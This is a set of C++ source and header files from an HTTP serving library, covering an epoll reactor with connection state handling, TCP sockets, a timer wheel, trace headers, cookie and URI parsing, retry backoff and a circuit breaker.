  if (conn.parser.complete()) dispatch(loop, conn);
  return consumed;
}

void EventLoopHttpServer::dispatch(Loop& loop, Conn& conn) {
  HttpRequest request = conn.parser.take();
  conn.parser.reset();
  conn.in_body_phase = false;
  conn.keep_alive =
      !util::iequals(request.headers.get("Connection").value_or(""), "close");
  disarm_timer(conn);  // no deadline while application code runs
  conn.state = Conn::State::kDispatched;
  if (stage_enabled_) conn.t_parse_done = wall_now();

  // The job captures the mailbox (not the loop): if the connection dies
  // or serve() returns before the handler finishes, the completion posts
  // into a closed/ownerless mailbox and is dropped. When the executor
  // runs the job synchronously (inline dispatch), the thread-id check
  // routes the completion straight back in — a matching id proves we are
  // still on the owning loop thread, inside run_loop, so `loop` is alive
  // and the mailbox + eventfd round trip would be pure overhead.
  auto mailbox = loop.mailbox;
  Loop* owner = &loop;
  const std::thread::id owner_tid = std::this_thread::get_id();
  const std::uint64_t id = conn.id;
  // shared_ptr: std::function requires a copyable closure.
  auto shared_request = std::make_shared<HttpRequest>(std::move(request));
  const bool admitted =
      executor_([this, mailbox, owner, owner_tid, id, shared_request] {
        const util::Micros handler_start = stage_enabled_ ? wall_now() : 0;
        HttpResponse response = handler_(*shared_request);
        const util::Micros handler_done = stage_enabled_ ? wall_now() : 0;
        if (std::this_thread::get_id() == owner_tid) {
          complete(*owner, id, std::move(response), handler_start,
                   handler_done);
          return;
        }
        Mailbox::Item item;
        item.is_completion = true;
        item.conn_id = id;
        item.response = std::move(response);
        item.handler_start = handler_start;
        item.handler_done = handler_done;
        if (loop_options_.telemetry.loop_lag_micros != nullptr)
          item.posted_at = handler_done > 0 ? handler_done : wall_now();
        mailbox->post(std::move(item));
      });
  if (!admitted) {
    // Load shed. The blocking server sheds at accept; the reactor parses
    // headers on the (cheap) I/O loop and sheds at dispatch — same
    // observable 503 + Retry-After + close.
    count(stats_ != nullptr ? &stats_->shed_total : nullptr);
    HttpResponse shed = HttpResponse::text(503, "overloaded, retry later\n");
    shed.headers.set("Retry-After",
                     std::to_string(options_.retry_after_seconds));
    stamp_trace_echo(shed, shared_request->headers);
    start_write(loop, conn, std::move(shed), /*close_after=*/true,
                /*count_handled=*/false);
  }
}

void EventLoopHttpServer::start_write(Loop& loop, Conn& conn,
                                      HttpResponse response, bool close_after,
                                      bool count_handled) {
  if (!conn.keep_alive) close_after = true;
  if (close_after) response.headers.set("Connection", "close");
  if (stage_enabled_ && count_handled)
    conn.trace_id = response.headers.get(kTraceHeader).value_or("");
  conn.out_head = response.to_wire_head();
  conn.out_body = std::move(response.body);
  conn.out_off = 0;
  conn.close_after_write = close_after;
  conn.count_handled = count_handled;
  conn.state = Conn::State::kWriting;
  if (options_.write_timeout_micros > 0)
    arm_timer(loop, conn, options_.write_timeout_micros);
  pump_write(loop, conn);
}

void EventLoopHttpServer::pump_write(Loop& loop, Conn& conn) {
  const std::size_t total = conn.out_head.size() + conn.out_body.size();
  while (conn.out_off < total) {
    std::string_view iov[2];
    std::size_t iov_count = 0;
    if (conn.out_off < conn.out_head.size()) {
      iov[iov_count++] = std::string_view(conn.out_head).substr(conn.out_off);
      if (!conn.out_body.empty()) iov[iov_count++] = conn.out_body;
    } else {
      iov[iov_count++] =
          std::string_view(conn.out_body).substr(conn.out_off - conn.out_head.size());
    }
    auto n = conn.io->writev_some(iov, iov_count);
    if (!n.ok()) {
      count(conn_stats_ != nullptr ? &conn_stats_->reset_total : nullptr);
      destroy(loop, conn);
      return;
    }
    if (n.value() == 0) return;  // kernel buffer full; EPOLLOUT edge resumes
    conn.out_off += n.value();
  }

  // Response fully written.
  disarm_timer(conn);
  if (conn.count_handled) {
    count(stats_ != nullptr ? &stats_->handled_total : nullptr);
    if (LoopStats* lstats = loop_stats(loop); lstats != nullptr)
      lstats->requests.fetch_add(1, std::memory_order_relaxed);
    if (stage_enabled_) report_stages(loop, conn);
  }
  if (conn.close_after_write) {
    destroy(loop, conn);
    return;
  }
  conn.out_head.clear();
  conn.out_body.clear();
  conn.out_off = 0;
  enter_idle(loop, conn);
  // A pipelined request may already be buffered (or readable). Deferred
  // to run_loop's drain rather than pumped recursively: with inline
  // dispatch a deep pipeline would otherwise nest a full
  // read→dispatch→write frame (16 KiB read buffer included) per request.
  if (conn.inbuf_off < conn.inbuf.size() || conn.read_ready)
    loop.ready.push_back(conn.id);
}

void EventLoopHttpServer::on_timer(Loop& loop, std::uint64_t id,
                                   util::Micros deadline) {
  auto it = loop.conns.find(id);
  if (it == loop.conns.end()) return;
  Conn& conn = *it->second;
  // Stale entry: the deadline was re-armed (moved) or disarmed since this
  // wheel entry was scheduled.
  if (!conn.timer_armed || conn.timer_deadline != deadline) return;
  conn.timer_armed = false;
  count(stats_ != nullptr ? &stats_->timeouts_total : nullptr);
  switch (conn.state) {
    case Conn::State::kIdle:
      reap(loop, conn, /*send_408=*/false);  // nothing asked, nothing owed
      break;
    case Conn::State::kReading:
      reap(loop, conn, /*send_408=*/true);  // mid-request: say why
      break;
    case Conn::State::kWriting:
      reap(loop, conn, /*send_408=*/false);  // receiver never drained
      break;
    case Conn::State::kDispatched:
      break;  // no deadline runs while the handler does (disarmed above)
  }
}

void EventLoopHttpServer::arm_timer(Loop& loop, Conn& conn,
                                    util::Micros delay) {
  const util::Micros now = wall_now();
  conn.timer_armed = true;
  conn.timer_deadline = now + delay;
  loop.wheel.schedule(now, conn.timer_deadline, conn.id);
}

void EventLoopHttpServer::disarm_timer(Conn& conn) {
  // O(1): the wheel entry goes stale and is swept with its slot.
  conn.timer_armed = false;
}

void EventLoopHttpServer::enter_idle(Loop& loop, Conn& conn) {
  conn.state = Conn::State::kIdle;
  conn.got_bytes = false;
  if (!conn.counted_idle) {
    gauge_add(conn_stats_ != nullptr ? &conn_stats_->idle : nullptr, 1);
    conn.counted_idle = true;
  }
  // The header deadline doubles as the idle cap (ServerOptions contract).
  if (options_.header_deadline_micros > 0)
    arm_timer(loop, conn, options_.header_deadline_micros);
}

void EventLoopHttpServer::leave_idle(Conn& conn) {
  if (conn.counted_idle) {
    gauge_add(conn_stats_ != nullptr ? &conn_stats_->idle : nullptr, -1);
    conn.counted_idle = false;
  }
}

void EventLoopHttpServer::reap(Loop& loop, Conn& conn, bool send_408) {
  count(stats_ != nullptr ? &stats_->reaped_total : nullptr);
  count(conn_stats_ != nullptr ? &conn_stats_->timeout_closes_total : nullptr);
  if (send_408) {
    // Best-effort single write: a client slow enough to be reaped rarely
    // has a full receive window, and we will not wait on one that does.
    // The partially parsed headers may already carry a valid X-W5-Trace;
    // echo it (pooled-path parity).
    HttpResponse timeout = HttpResponse::text(408, "request timeout\n");
    timeout.headers.set("Connection", "close");
    stamp_trace_echo(timeout, conn.parser.parsed_headers());
    const std::string wire = timeout.to_wire();
    (void)conn.io->write_some(wire);
  }
  destroy(loop, conn);
}

void EventLoopHttpServer::report_stages(Loop& loop, Conn& conn) {
  if (conn.t_request_start == 0) {
    conn.trace_id.clear();
    return;
  }
  StageSample sample;
  sample.trace_id = std::move(conn.trace_id);
  sample.loop_index = loop.index;
  sample.request_start = conn.t_request_start;
  sample.parse_done = conn.t_parse_done;
  sample.handler_start = conn.t_handler_start;
  sample.handler_done = conn.t_handler_done;
  sample.write_done = wall_now();
  // Inline dispatch runs the handler synchronously on this loop; a
  // missing worker stamp collapses the dispatch stage to zero instead of
  // reporting garbage.
  if (sample.handler_start == 0) sample.handler_start = sample.parse_done;
  if (sample.handler_done < sample.handler_start)
    sample.handler_done = sample.handler_start;
  loop_options_.telemetry.on_stage(sample);
  conn.trace_id.clear();
  conn.t_request_start = 0;
  conn.t_parse_done = 0;
  conn.t_handler_start = 0;
  conn.t_handler_done = 0;
}

void EventLoopHttpServer::destroy(Loop& loop, Conn& conn) {
  disarm_timer(conn);
  leave_idle(conn);
  conn.io->close();  // closing the fd also drops it from the epoll set
  gauge_add(conn_stats_ != nullptr ? &conn_stats_->open : nullptr, -1);
  if (LoopStats* lstats = loop_stats(loop); lstats != nullptr)
    lstats->connections.fetch_sub(1, std::memory_order_relaxed);
  loop.conns.erase(conn.id);  // frees `conn` — caller must not touch it
}

}  // namespace w5::net
