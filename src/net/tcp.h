// Real TCP transport (POSIX sockets) behind the Connection interface.
//
// Used by the runnable examples so a W5 provider can actually be poked
// with curl; tests and benches prefer the deterministic in-memory pipe.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <string>

#include "net/transport.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::net {

class TcpConnection final : public Connection {
 public:
  explicit TcpConnection(int fd) : fd_(fd) {}
  ~TcpConnection() override;

  TcpConnection(const TcpConnection&) = delete;
  TcpConnection& operator=(const TcpConnection&) = delete;

  util::Result<std::size_t> read(char* buf, std::size_t max) override;
  util::Status write(std::string_view data) override;
  // One EAGAIN-aware send(2): ok(n) bytes accepted, ok(0) would block.
  util::Result<std::size_t> write_some(std::string_view data) override;
  // One writev(2) over up to kMaxIov buffers (response head + body with
  // no concatenation); same contract as write_some.
  util::Result<std::size_t> writev_some(const std::string_view* iov,
                                        std::size_t iov_count) override;
  void close() override;
  bool closed() const override { return fd_ < 0; }

  // The raw descriptor, for the reactor's epoll registration. -1 when
  // closed. Ownership stays with the connection.
  int fd() const noexcept { return fd_; }

  // Switches the socket to O_NONBLOCK: read() reports "net.would_block"
  // instead of blocking, write_some() reports ok(0). Required before
  // handing the connection to an event loop.
  util::Status set_nonblocking();

  // Poll-enforced deadlines per read()/write() call (0 = block forever).
  // A read that sees no bytes within the window returns "net.timeout";
  // a write whose socket stays unwritable (receiver never drains) does
  // the same — distinct from "net.io" so callers can tell a stalled peer
  // from a broken one.
  void set_read_timeout(util::Micros timeout) override {
    read_timeout_ = timeout;
  }
  void set_write_timeout(util::Micros timeout) override {
    write_timeout_ = timeout;
  }

 private:
  // Waits until the fd is ready for `events` (POLLIN/POLLOUT) within
  // `timeout` micros; ok(true) ready, ok(false) timed out.
  util::Result<bool> wait_ready(short events, util::Micros timeout);

  int fd_;
  util::Micros read_timeout_ = 0;
  util::Micros write_timeout_ = 0;
};

class TcpListener {
 public:
  TcpListener() = default;
  ~TcpListener();

  TcpListener(const TcpListener&) = delete;
  TcpListener& operator=(const TcpListener&) = delete;

  // Binds 127.0.0.1:port (port 0 picks a free port; see port()). A
  // listener that is already bound is closed first, and every failure
  // path closes the new socket — retrying startup on a busy port never
  // leaks an fd.
  util::Status listen(std::uint16_t port, int backlog = 16);

  std::uint16_t port() const noexcept { return port_; }

  // The raw listening descriptor (-1 when closed): the reactor registers
  // it with epoll and calls accept() only when it is readable.
  int fd() const noexcept { return fd_.load(std::memory_order_acquire); }

  // Switches the listening socket to O_NONBLOCK so accept() reports
  // "net.would_block" instead of parking the caller.
  util::Status set_nonblocking();

  // Blocks until a client connects (or, on a non-blocking listener,
  // returns error("net.would_block") when no client is pending).
  util::Result<std::unique_ptr<Connection>> accept();

  // Safe to call from another thread while accept() is blocked (the
  // shutdown pattern: a serving loop exits when its listener closes).
  void close();

  // Runs `op` on the live fd under the same lock close() takes, or
  // returns net.closed without running it. The fd cannot be closed (and
  // its number reused) while `op` runs, and the lock sequences a later
  // close() after everything `op` did — the reactor's epoll registration
  // needs exactly that edge against a concurrent shutdown. `op` must not
  // block (close() waits on the lock) and must not call close()/listen().
  util::Status with_fd(const std::function<util::Status(int)>& op);

 private:
  // Serializes close() against with_fd().
  util::Mutex close_mutex_{util::lockrank::kTcpClose,
                           "TcpListener::close_mutex_"};
  std::atomic<int> fd_{-1};  // atomic: close() races with accept()
  std::uint16_t port_ = 0;
};

// Connects to 127.0.0.1:port.
util::Result<std::unique_ptr<Connection>> tcp_connect(std::uint16_t port);

}  // namespace w5::net
