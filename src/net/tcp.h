// Real TCP transport (POSIX sockets) behind the Connection interface.
//
// Used by the runnable examples so a W5 provider can actually be poked
// with curl; tests and benches prefer the deterministic in-memory pipe.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <string>

#include "net/transport.h"
#include "util/result.h"

namespace w5::net {

class TcpConnection final : public Connection {
 public:
  explicit TcpConnection(int fd) : fd_(fd) {}
  ~TcpConnection() override;

  TcpConnection(const TcpConnection&) = delete;
  TcpConnection& operator=(const TcpConnection&) = delete;

  util::Result<std::size_t> read(char* buf, std::size_t max) override;
  util::Status write(std::string_view data) override;
  void close() override;
  bool closed() const override { return fd_ < 0; }

  // Poll-enforced deadlines per read()/write() call (0 = block forever).
  // A read that sees no bytes within the window returns "net.timeout";
  // a write whose socket stays unwritable (receiver never drains) does
  // the same — distinct from "net.io" so callers can tell a stalled peer
  // from a broken one.
  void set_read_timeout(util::Micros timeout) override {
    read_timeout_ = timeout;
  }
  void set_write_timeout(util::Micros timeout) override {
    write_timeout_ = timeout;
  }

 private:
  // Waits until the fd is ready for `events` (POLLIN/POLLOUT) within
  // `timeout` micros; ok(true) ready, ok(false) timed out.
  util::Result<bool> wait_ready(short events, util::Micros timeout);

  int fd_;
  util::Micros read_timeout_ = 0;
  util::Micros write_timeout_ = 0;
};

class TcpListener {
 public:
  TcpListener() = default;
  ~TcpListener();

  TcpListener(const TcpListener&) = delete;
  TcpListener& operator=(const TcpListener&) = delete;

  // Binds 127.0.0.1:port (port 0 picks a free port; see port()). A
  // listener that is already bound is closed first, and every failure
  // path closes the new socket — retrying startup on a busy port never
  // leaks an fd.
  util::Status listen(std::uint16_t port, int backlog = 16);

  std::uint16_t port() const noexcept { return port_; }

  // Blocks until a client connects.
  util::Result<std::unique_ptr<Connection>> accept();

  // Safe to call from another thread while accept() is blocked (the
  // shutdown pattern: a serving loop exits when its listener closes).
  void close();

 private:
  std::atomic<int> fd_{-1};  // atomic: close() races with accept()
  std::uint16_t port_ = 0;
};

// Connects to 127.0.0.1:port.
util::Result<std::unique_ptr<Connection>> tcp_connect(std::uint16_t port);

}  // namespace w5::net
