// Epoll edge-triggered reactor: event-driven HTTP serving (DESIGN.md §15).
//
// The worker-per-connection PooledHttpServer pins one pool worker per
// open socket for the connection's whole life — an idle keep-alive
// client costs a thread. This server inverts the model: a small set of
// I/O loop threads multiplex every connection with epoll(7) in
// edge-triggered mode, each connection a state machine
//
//   idle → reading (headers → body) → dispatched → writing → idle
//
// driving the incremental net/http_parser. Application work (the
// ServerHandler) still runs on the caller's executor (the provider's
// thread pool); the finished response is handed back to the connection's
// owning loop through a mailbox + eventfd wakeup, so connection state is
// only ever touched by its owning loop thread — the thread-ownership
// rule that keeps the reactor lock-free on the hot path.
//
// Deadlines (the same ServerOptions the pooled server honors — header/
// idle, body, and write budgets, 408/413/431/503 semantics preserved
// behavior-for-behavior) come from a hashed timer wheel per loop instead
// of poll-quantum wakeups: tens of thousands of idle keep-alive
// connections sleep in the epoll set at ~0 CPU until bytes arrive or
// their deadline slot comes up.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <thread>
#include <unordered_map>
#include <vector>

#include "net/http.h"
#include "net/http_parser.h"
#include "net/http_server.h"
#include "net/tcp.h"
#include "net/timer_wheel.h"
#include "util/clock.h"
#include "util/metrics.h"
#include "util/thread_annotations.h"

namespace w5::net {

// Wraps each accepted connection before the reactor performs any I/O on
// it — the chaos hook: tests wrap accepted sockets in FaultyConnection
// so injected short reads / drops / resets fire identically on the
// event path. The reactor keeps the raw fd for epoll registration; all
// reads and writes go through the (possibly decorated) Connection.
using ConnectionDecorator =
    std::function<std::unique_ptr<Connection>(std::unique_ptr<Connection>)>;

// ---- Reactor stage attribution (DESIGN.md §16) -----------------------------

// Absolute wall-clock stamps for one *handled* request's trip through the
// per-connection state machine, reported after the response's last byte
// is written. Early exits (408/413/431/503) report nothing — they never
// ran a handler. trace_id is the response's X-W5-Trace echo: an id, never
// request bytes (§3.5).
struct StageSample {
  std::string trace_id;
  std::size_t loop_index = 0;
  util::Micros request_start = 0;  // first byte of the request arrived
  util::Micros parse_done = 0;     // request fully parsed (dispatch point)
  util::Micros handler_start = 0;  // handler began executing
  util::Micros handler_done = 0;   // response arrived back at the loop
  util::Micros write_done = 0;     // last response byte accepted by the kernel
};
using StageCallback = std::function<void(const StageSample&)>;

// Per-loop reactor counters, written by the owning loop thread with
// relaxed atomics and read by /metrics and /debug/statusz. The caller
// owns the array (entry i belongs to loop i) and must keep it alive for
// the server's lifetime.
struct LoopStats {
  std::atomic<std::int64_t> connections{0};       // open conns on this loop
  std::atomic<std::uint64_t> epoll_wakeups{0};    // epoll_wait returns > 0
  std::atomic<std::uint64_t> epoll_events{0};     // events across wakeups
  std::atomic<std::uint64_t> mailbox_items{0};    // cross-thread handoffs
  std::atomic<std::uint64_t> timer_fires{0};      // wheel entries fired
  std::atomic<std::uint64_t> requests{0};         // responses fully written
};

// Optional reactor telemetry sinks, all nullable — the reactor stamps
// clocks only for the sinks that are actually installed, so a bare
// server (or a W5_NO_TELEMETRY build) pays nothing.
struct ReactorTelemetry {
  util::Histogram* loop_lag_micros = nullptr;    // mailbox post → drain delay
  util::Histogram* epoll_batch = nullptr;        // events per wakeup
  util::Histogram* timer_drift_micros = nullptr; // fire time − deadline
  std::vector<LoopStats>* loop_stats = nullptr;  // sized ≥ io_threads
  StageCallback on_stage;                        // per-request stage stamps
};

struct EventLoopOptions {
  // Reactor loop threads. Loop 0 runs on the serve() caller's thread and
  // owns the listener; accepted connections are dealt round-robin.
  std::size_t io_threads = 1;
  // Timer wheel slot width: deadlines fire at most one slot late.
  util::Micros timer_granularity_micros = 20'000;
  std::size_t timer_slots = 1024;
  // Bytes per read(2) into the parser.
  std::size_t read_chunk_bytes = 16 * 1024;
  ConnectionDecorator decorate;  // optional (fault injection)
  ReactorTelemetry telemetry;    // optional (DESIGN.md §16)
};

class EventLoopHttpServer {
 public:
  EventLoopHttpServer(ServerHandler handler, BoundedExecutor executor,
                      ParserLimits limits = {}, ServerOptions options = {},
                      EventLoopOptions loop_options = {},
                      ServerStats* stats = nullptr,
                      ConnStats* conn_stats = nullptr);
  ~EventLoopHttpServer();

  EventLoopHttpServer(const EventLoopHttpServer&) = delete;
  EventLoopHttpServer& operator=(const EventLoopHttpServer&) = delete;

  // Runs the reactor until the listener is closed (listener.close() from
  // another thread, the same shutdown contract as PooledHttpServer).
  // Returns the number of connections accepted. The caller is
  // responsible for draining its executor afterwards — completions for
  // connections that no longer exist are dropped harmlessly.
  std::size_t serve(TcpListener& listener);

 private:
  struct Conn;
  struct Loop;
  struct Mailbox;

  void run_loop(Loop& loop);
  void accept_ready(Loop& loop);
  void add_conn(Loop& loop, std::unique_ptr<Connection> io, int fd,
                std::uint64_t id);
  void drain_mailbox(Loop& loop);
  // Applies a finished handler response to the connection (if it still
  // exists and still awaits one). Loop-thread only. handler_start/done
  // are the worker's wall-clock stamps (0 when stage attribution is off).
  void complete(Loop& loop, std::uint64_t id, HttpResponse response,
                util::Micros handler_start, util::Micros handler_done);
  void handle_event(Loop& loop, std::uint64_t id, std::uint32_t events);
  void pump_read(Loop& loop, Conn& conn);
  // Feeds data to the connection's parser, driving state transitions.
  // Returns bytes consumed (short on request completion — pipelining).
  std::size_t feed(Loop& loop, Conn& conn, std::string_view data);
  void dispatch(Loop& loop, Conn& conn);
  void start_write(Loop& loop, Conn& conn, HttpResponse response,
                   bool close_after, bool count_handled);
  void pump_write(Loop& loop, Conn& conn);
  void on_timer(Loop& loop, std::uint64_t id, util::Micros deadline);
  void arm_timer(Loop& loop, Conn& conn, util::Micros delay);
  void disarm_timer(Conn& conn);
  void enter_idle(Loop& loop, Conn& conn);
  void leave_idle(Conn& conn);
  // 408 (only when the client owed us a request), then close.
  void reap(Loop& loop, Conn& conn, bool send_408);
  void destroy(Loop& loop, Conn& conn);
  void request_stop();

  // Per-loop stats slot for `loop`, null when the caller installed none.
  LoopStats* loop_stats(const Loop& loop) const;
  // Builds and reports the stage sample for a fully-written response.
  void report_stages(Loop& loop, Conn& conn);

  ServerHandler handler_;
  BoundedExecutor executor_;
  ParserLimits limits_;
  ServerOptions options_;
  EventLoopOptions loop_options_;
  ServerStats* stats_;
  ConnStats* conn_stats_;
  // Stage attribution on: an on_stage sink is installed (and telemetry
  // is compiled in) — gates every per-request wall_now() stamp.
  bool stage_enabled_ = false;

  std::vector<std::unique_ptr<Loop>> loops_;
  TcpListener* listener_ = nullptr;
  std::atomic<std::uint64_t> accepted_{0};
  std::uint64_t next_conn_id_;  // loop-0 thread only (the accepting loop)
  std::size_t next_loop_ = 0;   // round-robin dealing, loop-0 thread only
};

}  // namespace w5::net
