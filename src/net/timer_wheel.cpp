#include "net/timer_wheel.h"

namespace w5::net {

TimerWheel::TimerWheel(util::Micros granularity, std::size_t slots)
    : granularity_(granularity > 0 ? granularity : 1),
      slots_(slots > 0 ? slots : 1) {}

void TimerWheel::schedule(util::Micros now, util::Micros deadline,
                          std::uint64_t key) {
  if (!anchored_) anchor(now);
  // A deadline at or behind the sweep cursor fires on the very next
  // sweep: park it in the next slot boundary rather than a full lap out.
  const util::Micros effective =
      deadline > cursor_time_ ? deadline : cursor_time_ + 1;
  const std::size_t slot = static_cast<std::size_t>(
      (effective + granularity_ - 1) / granularity_ % slots_.size());
  slots_[slot].push_back(Entry{deadline, key});
  ++size_;
}

util::Micros TimerWheel::next_deadline(util::Micros now) const {
  if (size_ == 0 || !anchored_) return -1;
  for (std::size_t step = 1; step <= slots_.size(); ++step) {
    const std::size_t slot = (cursor_ + step) % slots_.size();
    if (!slots_[slot].empty()) {
      const util::Micros boundary =
          cursor_time_ + static_cast<util::Micros>(step) * granularity_;
      return boundary > now ? boundary : now;
    }
  }
  return -1;  // unreachable while size_ > 0, but keep the compiler calm
}

void TimerWheel::anchor(util::Micros t) {
  cursor_time_ = t / granularity_ * granularity_;
  cursor_ = static_cast<std::size_t>(cursor_time_ / granularity_ %
                                     slots_.size());
  anchored_ = true;
}

}  // namespace w5::net
