// Cookie handling (RFC 6265 subset).
//
// The W5 front-end authenticates users by session cookie (paper §2: "the
// provider would read incoming cookies ... to authenticate the user"), so
// the parser is strict about names/values and the serializer always
// offers HttpOnly.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace w5::net {

// Parses a Cookie request header ("a=1; b=2") into ordered pairs.
// Malformed pairs are skipped (per robustness guidance), never fatal.
std::vector<std::pair<std::string, std::string>> parse_cookie_header(
    std::string_view header);

std::optional<std::string> cookie_get(
    const std::vector<std::pair<std::string, std::string>>& cookies,
    std::string_view name);

struct SetCookie {
  std::string name;
  std::string value;
  std::string path = "/";
  std::int64_t max_age_seconds = -1;  // <0: session cookie
  bool http_only = true;
  bool secure = false;

  // Renders the Set-Cookie header value. Returns nullopt when the
  // name/value contain characters that RFC 6265 forbids.
  std::optional<std::string> to_header() const;
};

}  // namespace w5::net
