// Cross-hop trace header plumbing for the net layer (DESIGN.md §16).
//
// The layering DAG forbids net/ → core/, but outbound requests made by
// net::HttpClient must carry the active request's trace context
// (X-W5-Trace / X-W5-Parent / X-W5-Sampled) and the serving paths must
// echo a validated inbound id on early-exit responses the handler never
// sees (408/413/431/503). The seam is a process-global provider hook:
// core installs a snapshot function over its thread-local RequestContext;
// net only knows the header names and the id *shape*.
//
// §3.5: only token-shaped values ([0-9a-zA-Z_-]{1,64}) ever cross here —
// an arbitrary client header can never ride telemetry channels.
#pragma once

#include <functional>
#include <string>
#include <string_view>

namespace w5::net {

// Wire header names, shared by both serving paths, the client, and core.
inline constexpr std::string_view kTraceHeader = "X-W5-Trace";
inline constexpr std::string_view kParentHeader = "X-W5-Parent";
inline constexpr std::string_view kSampledHeader = "X-W5-Sampled";
inline constexpr std::string_view kSpansHeader = "X-W5-Spans";

// True when `token` is shaped like a trace id ([0-9a-zA-Z_-]{1,64}).
// Mirrors platform::valid_trace_id — duplicated here because net/ cannot
// include core/trace.h (frozen layering DAG).
bool valid_trace_token(std::string_view token);

// Snapshot of the calling thread's active trace context.
struct TraceHeaders {
  std::string trace_id;     // empty = no active context
  std::string parent_span;  // decimal span ordinal, empty = request root
  bool sampled = false;
};

// Installed once by core at provider startup; called by HttpClient on
// every outbound request that does not already carry X-W5-Trace. Returns
// false (or is unset) when there is no active context — the request goes
// out unstamped and the callee traces independently.
using TraceProvider = std::function<bool(TraceHeaders*)>;
void set_outbound_trace_provider(TraceProvider provider);

// Fills `out` from the installed provider; false when none is installed
// or no context is active.
bool outbound_trace_headers(TraceHeaders* out);

class Headers;
struct HttpResponse;

// Echoes a validated inbound X-W5-Trace id onto an early-exit response
// (408/413/431/503) the handler never sees, so a traced caller can still
// correlate the failure with its trace. Invalid or absent ids stamp
// nothing — the shape check keeps arbitrary client bytes out of the
// response header (§3.5). Both serving paths share this helper, which is
// what keeps their early-exit behavior identical.
void stamp_trace_echo(HttpResponse& response, const Headers& request_headers);

}  // namespace w5::net
