// URI handling: percent-encoding and request-target parsing.
//
// W5 routes requests by path (paper §2: "developer A's cropper at
// http://w5.org/devA/crop"), so correct, strict URI parsing sits on the
// security path — a sloppy decoder is how path-confusion bugs become
// data-disclosure bugs.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace w5::net {

// Percent-encodes everything outside RFC 3986 "unreserved".
std::string percent_encode(std::string_view raw);

// Strict decode: rejects malformed escapes. `plus_as_space` applies the
// application/x-www-form-urlencoded rule used for query strings.
std::optional<std::string> percent_decode(std::string_view encoded,
                                          bool plus_as_space = false);

// Ordered (name, value) pairs — duplicates are meaningful in forms.
using QueryParams = std::vector<std::pair<std::string, std::string>>;

// Parses "a=1&b=two"; malformed escapes drop the whole parse.
std::optional<QueryParams> parse_query(std::string_view query);

// First value for a name, if any.
std::optional<std::string> query_get(const QueryParams& params,
                                     std::string_view name);

std::string encode_query(const QueryParams& params);

struct RequestTarget {
  std::string path;         // decoded, always starts with '/'
  std::string raw_query;    // undecoded query string ("" if none)
  QueryParams query;        // decoded pairs

  // Path split into segments with dot-segments resolved; empty for "/".
  std::vector<std::string> segments;
};

// Parses an origin-form request target ("/a/b?x=1"). Rejects targets that
// escape the root via "..", contain NUL, or carry malformed escapes.
std::optional<RequestTarget> parse_request_target(std::string_view target);

}  // namespace w5::net
