#include "net/backoff.h"

#include <algorithm>
#include <chrono>
#include <thread>

namespace w5::net {

SleepFn real_sleep() {
  return [](util::Micros micros) {
    if (micros > 0)
      std::this_thread::sleep_for(std::chrono::microseconds(micros));
  };
}

SleepFn no_sleep() {
  return [](util::Micros) {};
}

Backoff::Backoff(const RetryPolicy& policy)
    : policy_(policy), rng_(policy.seed), current_(policy.initial_backoff) {}

util::Micros Backoff::next_delay() {
  ++attempts_;
  if (exhausted()) return 0;
  const util::Micros base = current_;
  current_ = std::min<util::Micros>(
      policy_.max_backoff,
      static_cast<util::Micros>(static_cast<double>(current_) *
                                policy_.multiplier));
  if (policy_.jitter <= 0.0) return base;
  // Symmetric jitter: delay * (1 ± jitter), drawn from the seeded rng so
  // the whole timeline replays under a fixed seed.
  const double spread = (rng_.next_double() * 2.0 - 1.0) * policy_.jitter;
  const auto jittered =
      static_cast<util::Micros>(static_cast<double>(base) * (1.0 + spread));
  return std::max<util::Micros>(jittered, 0);
}

bool retryable_error(const util::Error& error) {
  return error.code == "net.io" || error.code == "net.timeout" ||
         error.code == "net.reset" || error.code == "net.unreachable" ||
         error.code == "http.incomplete";
}

}  // namespace w5::net
