// Per-peer circuit breaker (closed → open → half-open).
//
// A dead federation peer must not wedge every sync cycle behind repeated
// connect-and-fail latencies: after `failure_threshold` consecutive
// failures the breaker opens and callers skip the peer outright; after
// `open_cooldown` it half-opens and lets a bounded number of probes
// through; one success re-closes it, one failure re-opens it. The state
// is exported as a /metrics gauge (0 closed, 1 half-open, 2 open).
#pragma once

#include <cstdint>
#include <mutex>

#include "util/clock.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::net {

class CircuitBreaker {
 public:
  enum class State : std::uint8_t { kClosed = 0, kHalfOpen = 1, kOpen = 2 };

  struct Config {
    int failure_threshold = 3;                  // consecutive, while closed
    util::Micros open_cooldown = 1'000'000;     // open → half-open delay
    int half_open_probes = 1;                   // trial calls allowed
  };

  // Two ctors instead of a `Config config = {}` default argument: a
  // default arg may not use Config's member initializers before the
  // enclosing class is complete.
  explicit CircuitBreaker(const util::Clock& clock)
      : CircuitBreaker(clock, Config{}) {}
  CircuitBreaker(const util::Clock& clock, Config config)
      : clock_(clock), config_(config) {}

  CircuitBreaker(const CircuitBreaker&) = delete;
  CircuitBreaker& operator=(const CircuitBreaker&) = delete;

  // True when the caller may attempt the operation now. While half-open,
  // each allow() consumes one probe slot; callers must follow up with
  // record_success()/record_failure() for the verdict.
  bool allow();

  void record_success();
  void record_failure();

  State state() const;
  int consecutive_failures() const;
  std::uint64_t rejected_total() const;  // calls refused while open

 private:
  // Open → half-open once the cooldown elapsed.
  void refresh_locked(util::Micros now) W5_REQUIRES(mutex_);

  const util::Clock& clock_;
  Config config_;
  mutable util::Mutex mutex_{util::lockrank::kCircuitBreaker,
                              "CircuitBreaker::mutex_"};
  State state_ W5_GUARDED_BY(mutex_) = State::kClosed;
  // Consecutive failures while closed.
  int failures_ W5_GUARDED_BY(mutex_) = 0;
  // allow()ed but not yet resolved (half-open).
  int probes_in_flight_ W5_GUARDED_BY(mutex_) = 0;
  util::Micros opened_at_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t rejected_ W5_GUARDED_BY(mutex_) = 0;
};

}  // namespace w5::net
