// Path router with parameter captures.
//
// Routes use the W5 URL scheme from the paper (§2): fixed segments,
// ":name" captures one segment, "*rest" captures the remainder. E.g.
//   GET /dev/:developer/:app        — module invocation
//   GET /dev/:developer/:app/*path — module sub-resources
#pragma once

#include <functional>
#include <map>
#include <optional>
#include <string>
